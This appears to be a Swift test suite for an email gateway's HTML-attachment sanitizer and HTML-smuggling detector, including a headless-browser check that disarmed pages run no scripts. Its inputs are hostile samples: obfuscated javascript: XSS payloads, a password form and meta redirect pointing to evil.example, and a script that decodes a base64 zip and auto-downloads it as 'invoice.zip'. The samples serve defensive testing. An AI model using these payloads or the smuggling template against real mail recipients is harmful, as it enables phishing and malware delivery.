import Foundation
import Logging
import MailTestSupport
import MoatCore
import MoatMessage
@testable import MoatHTMLDisarm
import Testing

@Suite("HTML attachments made inert")
struct HTMLDisarmTests {
    func sanitize(_ html: String) -> (String, HTMLSanitizer.Removals) {
        let result = HTMLSanitizer().sanitize(Array(html.utf8))
        return (String(decoding: result.html, as: UTF8.self), result.removed)
    }

    @Test("scripts, handlers, script URLs, forms, redirects, frames and comments are removed; text and links stay", arguments: [
        ("<p>Hi</p><script>alert(1)</script><p>there</p>", "<p>Hi</p><p>there</p>", "script"),
        ("<SCRIPT type=text/javascript>x='</p>'</SCRIPT >ok", "ok", "script"),
        ("<img src=logo.png onerror=alert(1) alt='Logo'>", "<img src=\"logo.png\" alt=\"Logo\">", "event_handler"),
        ("<a href=\"jav&#x61;script:alert(1)\">x</a>", "<a>x</a>", "javascript_url"),
        ("<a href=\" java\tscript&colon;alert(1)\">x</a>", "<a>x</a>", "javascript_url"),
        ("<a href=\"https://example.com/a?b=1&amp;c=2\">site</a>", "<a href=\"https://example.com/a?b=1&amp;c=2\">site</a>", ""),
        ("<iframe src=data:text/html,<script>alert(1)</script>></iframe>after", "after", "embedded_object"),
        ("<form action=https://evil.example/login method=post><input name=pw type=password></form>", "<input name=\"pw\" type=\"password\">", "form"),
        ("<meta http-equiv=\"Refresh\" content=\"0;url=https://evil.example\">text", "text", "meta_refresh"),
        ("<!--[if IE]><script>x</script><![endif]-->visible", "visible", "comment"),
        ("<svg><a xlink:href=\"javascript:alert(1)\"><text>t</text></a><animate attributeName=href values=\"javascript:alert(1)\"/></svg>", "<svg><a><text>t</text></a></svg>", "javascript_url"),
        ("<object data=x.swf><param name=a value=b></object>tail", "tail", "embedded_object"),
        ("<div style=\"color:red\" title='say \"hi\"'>x</div>", "<div style=\"color:red\" title=\"say &quot;hi&quot;\">x</div>", ""),
        ("a < b and <3", "a &lt; b and &lt;3", ""),
        ("<style>p{background:url(javascript:alert(1))}</style>", "<style>p{background:url(x-removed-alert(1))}</style>", ""),
        ("<base href=https://evil.example/><a href=x>y</a>", "<a href=\"x\">y</a>", "base"),
        ("<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "<img>", "data_url"),
    ])
    func sanitizes(_ input: String, _ expected: String, _ kind: String) {
        let (output, removed) = sanitize(input)
        #expect(output == expected)
        if !kind.isEmpty { #expect(removed.counts[kind] != nil, "expected a \(kind) removal, got \(removed.counts)") }
    }

    @Test("hostile input: unterminated tags, quotes and comments never trap and stay linear")
    func hostile() {
        let inputs = ["<", "<a", "<a href=\"", "<script>", "<!--", "</", "<a b='c", String(repeating: "<a ", count: 20_000),
                      String(repeating: "</scrip", count: 20_000) + "<script>", "<\u{0}x onload=1>", "<a \u{FFFF}=1 onclick=2>"]
        for input in inputs {
            // What comes out is already inert: sanitising it again finds nothing to remove.
            let (output, _) = sanitize(input)
            let (again, removed) = sanitize(output)
            #expect(removed.counts.keys.filter { !HTMLSanitizer.silentKinds.contains($0) }.isEmpty, "\(removed.counts) left in \(output.prefix(80))")
            #expect(again == output)
        }
    }

    static let smuggler: String = {
        // A zip (local file header signature first) carried as base64 in a script that saves it.
        var zip: [UInt8] = [0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]
        zip += (0..<600).map { UInt8(truncatingIfNeeded: $0 &* 37) }
        let blob = Data(zip).base64EncodedString()
        return """
            <html><body><h1>Your document is ready</h1>
            <script>
            var b = atob("\(blob)"); var a = new Uint8Array(b.length);
            for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);
            var url = URL.createObjectURL(new Blob([a], {type: "application/octet-stream"}));
            var l = document.createElement("a"); l.href = url; l.download = "invoice.zip"; document.body.appendChild(l); l.click();
            </script></body></html>
            """
    }()

    @Test("HTML smuggling: a base64 zip assembled by script is malware, and the page delivered inert")
    func smuggling() async throws {
        let blobs = HTMLSmuggling.blobs(in: Array(Self.smuggler.utf8))
        #expect(blobs.map(\.kind) == ["a zip archive"])
        #expect(HTMLSmuggling.downloadCalls(in: Array(Self.smuggler.utf8)).contains("createObjectURL"))
        let report = try await scan(Self.message(html: Self.smuggler, name: "invoice.html"))
        #expect(report.category == .malware)
        #expect(report.findings.contains { $0.code == "html.smuggling" })
        #expect(report.findings.contains { $0.code == "html.blob_download" })
        let replacement = try #require(report.replacements.first)
        #expect(!String(decoding: replacement.rawPart, as: UTF8.self).contains("UEsDB"), "the blob is gone from the delivered page")
        // Plain pages with pictures are not smuggling.
        let png = Data([0x89, 0x50, 0x4E, 0x47] + (0..<800).map { UInt8(truncatingIfNeeded: $0) }).base64EncodedString()
        #expect(HTMLSmuggling.blobs(in: Array("<img src=\"data:image/png;base64,\(png)\">".utf8)).isEmpty)
    }

    /// The message's own HTML body (with a script, never rewritten), then `html` as part 2.
    static func message(html: String, name: String?) -> [UInt8] {
        TestMessage.multipart(parts: [
            .text("<p>body <script>x()</script></p>", type: "text/html"),
            TestMessage.Part(contentType: "text/html; charset=utf-8", disposition: name.map { "attachment; filename=\"\($0)\"" }, bytes: Array(html.utf8)),
        ])
    }

    func scan(_ raw: [UInt8], settings: HTMLDisarmSettings = HTMLDisarmSettings()) async throws -> EngineReport {
        let pool = BlockingWorkPool(threads: 1)
        let report = try await HTMLDisarmEngine(settings: settings).scan(ScanInput(message: Message(parsing: raw)), context: ScanContext(blocking: pool, logger: Logger(label: "test")))
        try await pool.shutdown()
        return report
    }

    @Test("only attachments are rewritten; text delivery; detect and reject modes")
    func engine() async throws {
        let page = "<p>Login</p><form action=https://evil.example><input type=password></form><script>steal()</script>"
        let report = try await scan(Self.message(html: page, name: "login.htm"))
        #expect(report.category == .suspicious)
        #expect(report.replacements.map(\.partPath) == ["2"], "the message's own HTML body is not an attachment")
        let codes = Set(report.findings.map(\.code))
        #expect(codes.isSuperset(of: ["html.form", "html.script", "html.disarmed"]))
        var text = HTMLDisarmSettings()
        text.deliver = .text
        let asText = try await scan(Self.message(html: page, name: "login.htm"), settings: text)
        let part = String(decoding: try #require(asText.replacements.first).rawPart, as: UTF8.self)
        #expect(part.contains("filename=\"login.htm.txt\"") && part.contains("text/plain"))
        var detect = HTMLDisarmSettings()
        detect.mode = .detect
        #expect(try await scan(Self.message(html: page, name: "login.htm"), settings: detect).replacements.isEmpty)
        var reject = HTMLDisarmSettings()
        reject.mode = .reject
        #expect(try await scan(Self.message(html: page, name: "login.htm"), settings: reject).category == .malware)
        let plain = try await scan(Self.message(html: "<p>Minutes of the meeting</p>", name: "minutes.html"))
        #expect(plain.findings.isEmpty && plain.replacements.isEmpty && plain.category == nil)
    }

    @Test("text delivery: tags dropped, line breaks kept (self-closing ones too), titles and styles left out")
    func visibleText() {
        let html = "<html><head><title>T</title><style>p{}</style></head><body><p>Total &amp; due</p>line one<br />line two<br>end</body></html>"
        #expect(String(decoding: HTMLText.visibleText(Array(html.utf8)), as: UTF8.self) == "\nTotal & due\nline one\nline two\nend")
    }

    /// Headless Chromium's DOM after loading `html` (scripts and timers given two seconds).
    static func chromiumDOM(_ html: String) throws -> String {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("moat-html-\(UUID().uuidString).html")
        try html.write(to: file, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(at: file) }
        let profile = FileManager.default.temporaryDirectory.appendingPathComponent("moat-chromium-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: profile) }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/chromium")
        process.arguments = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                             "--user-data-dir=\(profile.path)", "--virtual-time-budget=2000", "--dump-dom", file.absoluteString]
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = FileHandle.nullDevice
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return String(decoding: data, as: UTF8.self)
    }

    @Test("a real browser runs the original page's scripts and none of the disarmed page's")
    func chromium() throws {
        let page = """
            <html><head><meta http-equiv="refresh" content="0;url=about:blank#redirected"></head>
            <body onload="document.body.setAttribute('data-onload','ran')">
            <div id="t">original</div>
            <script>document.getElementById('t').textContent = 'SCRIPT-RAN';</script>
            <img src="missing.png" onerror="document.body.setAttribute('data-onerror','ran')">
            <iframe srcdoc="<script>parent.document.body.setAttribute('data-frame','ran')</script>"></iframe>
            <svg><script>document.body.setAttribute('data-svg','ran')</script></svg>
            </body></html>
            """
        let before = try Self.chromiumDOM(page.replacingOccurrences(of: "<meta http-equiv=\"refresh\" content=\"0;url=about:blank#redirected\">", with: ""))
        #expect(before.contains("SCRIPT-RAN") && before.contains("data-onload=\"ran\""), "the test page must run in the browser: \(before.prefix(500))")
        let (disarmed, _) = sanitize(page)
        let after = try Self.chromiumDOM(disarmed)
        #expect(after.contains("original"), "the page still renders: \(after.prefix(500))")
        for marker in ["SCRIPT-RAN", "data-onload", "data-onerror", "data-frame", "data-svg"] {
            #expect(!after.contains(marker), "\(marker) in the disarmed page's DOM: \(after.prefix(800))")
        }
    }
}

@Suite("HTML engine options")
struct HTMLDisarmOptionsTests {
    @Test("typos and wrong values are refused with the key")
    func options() throws {
        let context = EngineBuildContext(blocking: BlockingWorkPool(threads: 1), logger: Logger(label: "test"), rulesDirectory: "rules", manifestPath: "engines/html.toml")
        let settings = try HTMLDisarmSettings(options: ["deliver": .string("text"), "scores": .table(["form": .double(5)])], context: context)
        #expect(settings.deliver == .text && settings.scores["form"] == 5 && settings.scores["script"] == 2)
        for bad: [String: ConfigValue] in [["delivr": .string("text")], ["deliver": .string("pdf")], ["scores": .table(["forms": .double(1)])]] {
            #expect(throws: ConfigurationError.self) { try HTMLDisarmSettings(options: bad, context: context) }
        }
    }

    @Test("the note says what was done (inert HTML or text only), in English or Japanese")
    func notes() {
        let htmlText = HTMLDisarmEngine.note(.en, name: "p.html", removed: ["script"], hiddenFile: true, asText: true, reference: "R2")
        #expect(htmlText.contains("text only (p.html.txt)") && htmlText.contains("a file hidden inside it"))
        #expect(!HTMLDisarmEngine.note(.en, name: "p.html", removed: ["script"], hiddenFile: false, asText: false, reference: "R2").contains("text only"))
        let htmlJa = HTMLDisarmEngine.note(.ja, name: "p.html", removed: [], hiddenFile: false, asText: true, reference: "R2")
        #expect(htmlJa.contains("「p.html」") && htmlJa.contains("テキストのみ") && htmlJa.contains("R2"))
    }
}
